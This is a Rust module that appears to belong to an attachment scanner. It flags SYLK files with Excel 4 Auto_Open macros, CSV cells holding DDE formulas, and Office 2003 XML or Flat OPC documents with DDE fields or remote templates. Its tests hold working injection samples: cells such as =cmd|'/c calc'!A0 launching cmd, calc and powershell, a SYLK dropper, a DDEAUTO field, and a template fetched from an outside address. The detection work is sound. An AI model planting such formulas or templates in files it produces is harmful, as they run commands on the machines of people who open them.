//! Text files Office opens as documents: SYLK (Excel 4 macros and their `Auto_Open` name
//! in plain text), CSV and other spreadsheet text whose cells hold DDE formulas
//! (`=cmd|'/c calc'!A0`), and Word and Excel documents saved whole as XML (the 2003
//! formats, and Word 2007's "Flat OPC" with its relationships inline). None is a
//! compound file or a zip, so the other readers never see them, and Excel opens SYLK and
//! CSV under a `.xls` name too.

use super::{parts, Facts};

/// Cell formulas read for macro functions in a SYLK file at most (Excel 4 droppers have a
/// handful; the count bounds the work on a big export).
const MAX_SYLK_RECORDS: usize = 1_000_000;
/// Bytes looked at after a `|` for the `'…'!` of a DDE reference: a topic is short.
const MAX_CELL: usize = 1024;
/// Bytes at the head of a file where a 2003 XML document says it is one.
const XML_HEAD: usize = 4096;

/// Excel 4 macro functions (only a macro sheet calls them; a formula on a worksheet
/// cannot), as written in SYLK's `E` field: what droppers use to run, load and write.
const MACRO_FUNCTIONS: &[&str] = &[
    "EXEC(",
    "CALL(",
    "REGISTER(",
    "RUN(",
    "HALT(",
    "ALERT(",
    "FOPEN(",
    "FWRITE(",
    "FWRITELN(",
    "FORMULA(",
    "FORMULA.FILL(",
    "SET.VALUE(",
    "SET.NAME(",
    "GOTO(",
    "RETURN(",
    "ON.TIME(",
    "WORKBOOK.HIDE(",
    "FILES(",
];

/// Extensions Excel opens as spreadsheet text (`.xls` and its kin too: Excel opens the text
/// inside with a warning most readers click past).
const SHEET_EXTENSIONS: &[&str] = &[
    "csv", "tsv", "tab", "slk", "sylk", "dif", "prn", "xls", "xlt", "xla", "xlw",
];
/// Declared types of spreadsheet text.
const SHEET_TYPES: &[&str] = &[
    "text/csv",
    "text/x-csv",
    "text/comma-separated-values",
    "text/tab-separated-values",
    "application/csv",
    "application/x-csv",
    "application/vnd.ms-excel",
    "text/x-sylk",
    "application/x-sylk",
];

/// Reads an attachment (or an archive entry) as the text formats Office opens: SYLK and
/// 2003 XML by their content, whatever they are called; DDE formulas in files a name
/// (`exts`) or the declared type says are spreadsheets.
pub(super) fn read(exts: &[Option<String>], content_type: &str, data: &[u8]) -> Facts {
    if is_sylk(data) {
        return read_sylk(data);
    }
    if is_office_xml(data) {
        let mut facts = parts::read_xml(data);
        // A Word 2007 document saved as one XML file ("Flat OPC") carries its
        // relationships inline: a template or object loaded from the network is there.
        facts.remote_object = parts::loads_from_network(data);
        let text = parts::decode_references(&String::from_utf8_lossy(data));
        facts.dde |= has_dde_formula(text.as_bytes());
        return facts;
    }
    let named_sheet = exts
        .iter()
        .flatten()
        .any(|e| SHEET_EXTENSIONS.contains(&e.as_str()));
    let mut facts = Facts::default();
    if named_sheet || SHEET_TYPES.contains(&content_type) {
        facts.dde = has_dde_formula(data);
    }
    facts
}

/// Whether `data` is a SYLK file: Excel reads one by its first record, `ID;P…`, under any
/// name.
fn is_sylk(data: &[u8]) -> bool {
    data.starts_with(b"ID;P")
}

/// Whether `data` is a Word or Excel document saved as one XML file (2003 formats): the
/// processing instruction Office opens it by, or the namespaces of those formats, near the
/// top.
fn is_office_xml(data: &[u8]) -> bool {
    let head = data.get(..XML_HEAD).unwrap_or(data);
    let head = head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(head);
    let start = head.iter().position(|b| !b.is_ascii_whitespace());
    if start.and_then(|s| head.get(s..s + 5)) != Some(b"<?xml".as_slice()) {
        return false;
    }
    [
        b"mso-application".as_slice(),
        b"urn:schemas-microsoft-com:office:spreadsheet",
        b"schemas.microsoft.com/office/word/2003/wordml",
    ]
    .iter()
    .any(|marker| memchr::memmem::find(head, marker).is_some())
}

/// Reads a SYLK file's records: names (`NN;N<name>`), cell formulas (`C;…;E<formula>`)
/// calling Excel 4 macro functions, DDE formulas.
fn read_sylk(data: &[u8]) -> Facts {
    let mut facts = Facts::default();
    let mut auto_open = false;
    let mut formulas = false;
    for record in data
        .split(|&b| b == b'\n' || b == b'\r')
        .take(MAX_SYLK_RECORDS)
    {
        if let Some(fields) = record.strip_prefix(b"NN;") {
            // `NN;NAuto_Open;ER1C1`: a defined name and what it refers to.
            auto_open |= fields.split(|&b| b == b';').any(|field| {
                field.first() == Some(&b'N') && starts_with_folded(&field[1..], b"auto_open")
            });
        } else if let Some(fields) = record.strip_prefix(b"C;") {
            let Some(at) = memchr::memmem::find(fields, b";E") else {
                continue;
            };
            formulas = true;
            let formula = fields[at + 2..].to_ascii_uppercase();
            facts.macros |= MACRO_FUNCTIONS
                .iter()
                .any(|f| memchr::memmem::find(&formula, f.as_bytes()).is_some());
        }
    }
    if auto_open && formulas {
        // Excel runs the cells the name points at when the file opens; Excel 4 formulas
        // call what they like, as on a macro sheet of a workbook.
        facts.macros = true;
        facts.runs_on_open = true;
        facts.reaches_out = true;
    }
    facts.dde = has_dde_formula(data);
    facts
}

fn starts_with_folded(text: &[u8], prefix: &[u8]) -> bool {
    text.get(..prefix.len())
        .is_some_and(|head| head.eq_ignore_ascii_case(prefix))
}

/// Whether a cell holds a DDE formula, `=app|'topic'!item` (or `app|topic!item`): in a
/// formula (a cell starting with `=`, `+`, `-` or `@`, which Excel all reads as one), an
/// application name before a `|` and the `!` of the reference after it. Spreadsheets have
/// no other use for `|` in a formula, so ordinary exports never match. One pass: a
/// formula runs to the end of its line or a quote (a new quoted cell, an XML attribute),
/// across `,`, `;` and tabs, which separate its arguments as well as cells
/// (`=SUM(1,2)+cmd|…`).
fn has_dde_formula(data: &[u8]) -> bool {
    let mut formula = false;
    let mut cell_start = true;
    for (at, &b) in data.iter().enumerate() {
        match b {
            b'\n' | b'\r' | b'"' | b'>' => {
                formula = false;
                cell_start = true;
            }
            b',' | b';' | b'\t' => cell_start = true,
            // Excel drops blanks and quote-like padding in front of a formula.
            b' ' | b'\'' if cell_start => {}
            _ if cell_start => {
                cell_start = false;
                formula |= matches!(b, b'=' | b'+' | b'-' | b'@');
            }
            b'|' if formula => {
                let app = at
                    .checked_sub(1)
                    .and_then(|p| data.get(p))
                    .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.');
                if app && references_a_topic(&data[at + 1..]) {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// Whether the text after a `|` is a DDE topic and item: `'topic'!` (any text in the
/// quotes, on one line) or `topic!` (no blanks), after optional blanks.
fn references_a_topic(after: &[u8]) -> bool {
    let after = after.get(..MAX_CELL).unwrap_or(after);
    let start = after.iter().position(|&b| b != b' ').unwrap_or(after.len());
    let rest = &after[start..];
    if let Some(quoted) = rest.strip_prefix(b"'") {
        let Some(end) = quoted
            .iter()
            .position(|&b| matches!(b, b'\'' | b'\n' | b'\r'))
        else {
            return false;
        };
        if quoted[end] != b'\'' {
            return false;
        }
        let tail = &quoted[end + 1..];
        return tail.iter().find(|&&b| b != b' ') == Some(&b'!');
    }
    // A `|` ends the topic too, so every scan stops at the next one (linear time).
    let topic = rest
        .iter()
        .position(|&b| !b.is_ascii_graphic() || matches!(b, b',' | b';' | b'"' | b'!' | b'|'));
    let end = topic.unwrap_or(rest.len());
    end > 0 && rest.get(end) == Some(&b'!')
}

#[cfg(test)]
mod tests {
    use super::*;

    const SYLK_DROPPER: &[u8] = b"ID;PWXL;N;E\r\nP;PGeneral\r\nNN;NAuto_Open;ER1C1\r\n\
        C;Y1;X1;KFALSE;EEXEC(\"cmd /c calc\")\r\nC;Y2;KTRUE;EHALT()\r\nE\r\n";

    #[test]
    fn a_sylk_file_run_on_opening_is_an_excel_4_macro() {
        let facts = read(&[], "", SYLK_DROPPER);
        assert!(facts.autorun_macro(), "{facts:?}");
        // Without the name: macro functions, not run by themselves.
        let no_name = String::from_utf8_lossy(SYLK_DROPPER).replace("NN;NAuto_Open;ER1C1\r\n", "");
        let facts = read(&[], "", no_name.as_bytes());
        assert!(facts.macros && !facts.runs_on_open, "{facts:?}");
        // A plain SYLK export with formulas: nothing.
        let export = b"ID;PWXL;N;E\r\nC;Y1;X1;K2\r\nC;Y2;X1;K4;ESUM(R[-1]C*2)\r\nE\r\n";
        assert_eq!(read(&[], "", export), Facts::default());
    }

    #[test]
    fn dde_formulas_in_spreadsheet_text_are_found() {
        let csv = [Some("csv".to_string())];
        for cell in [
            "=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0",
            "name,total\r\nalice,\"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\"",
            "a;b;+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "x\t-2+3+cmd|'/c powershell'!A1",
            "=cmd|calc!A0",
            "=SUM(1,2)+cmd|' /C calc'!A0",
        ] {
            assert!(read(&csv, "", cell.as_bytes()).dde, "{cell}");
            assert!(read(&[], "text/csv", cell.as_bytes()).dde, "{cell}");
            // Only where Excel opens it as a sheet: a note in a text file is not flagged.
            assert!(!read(&[Some("txt".to_string())], "text/plain", cell.as_bytes()).dde);
        }
        for ordinary in [
            "id,cmd,result\r\n1,ls | wc -l,3\r\n",
            "=A1|B1",
            "shell: echo 'x' | grep '!'\r\n",
            "=SUM(A1:A3),\"a|'b'!\"",
            "note,\"pipe | 'quoted'!\"",
        ] {
            assert!(!read(&csv, "", ordinary.as_bytes()).dde, "{ordinary}");
        }
    }

    #[test]
    fn office_2003_xml_documents_are_read_whatever_their_name() {
        let sheet = b"<?xml version=\"1.0\"?>\r\n<?mso-application progid=\"Excel.Sheet\"?>\r\n\
            <Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
            xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row>\
            <Cell ss:Formula=\"=cmd|&apos;/c calc.exe&apos;!A1\"><Data ss:Type=\"Number\">0</Data>\
            </Cell></Row></Table></Worksheet></Workbook>";
        assert!(read(&[Some("xls".to_string())], "", sheet).dde);
        assert!(read(&[], "application/octet-stream", sheet).dde);
        let word = b"\xEF\xBB\xBF<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
            <w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body>\
            <w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>\
            <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>";
        assert!(read(&[Some("doc".to_string())], "", word).dde);
        // Word 2007 as one XML file: its relationships inline, an injected template.
        let flat_opc = b"<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
            <pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">\
            <pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships>\
            <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
            Target=\"http://198.51.100.7/invoice.dotm\" TargetMode=\"External\"/></Relationships>\
            </pkg:xmlData></pkg:part></pkg:package>";
        assert!(read(&[Some("xml".to_string())], "", flat_opc).remote_object);
        // Other XML is not opened by Office: nothing.
        let other = b"<?xml version=\"1.0\"?><feed><f>=cmd|'/c calc'!A1</f></feed>";
        assert!(!read(&[], "", other).dde);
    }

    #[test]
    fn files_of_pipes_are_read_in_linear_time() {
        let csv = [Some("csv".to_string())];
        let mut data = b"=".to_vec();
        data.extend(std::iter::repeat_n(b'|', 2_000_000));
        assert!(!read(&csv, "", &data).dde);
        let mut data = b"=".to_vec();
        data.extend(std::iter::repeat_n(b"a|".as_slice(), 1_000_000).flatten());
        assert!(!read(&csv, "", &data).dde);
        let mut data = b"=".to_vec();
        data.extend(std::iter::repeat_n(b"a|'".as_slice(), 1_000_000).flatten());
        assert!(!read(&csv, "", &data).dde);
    }
}
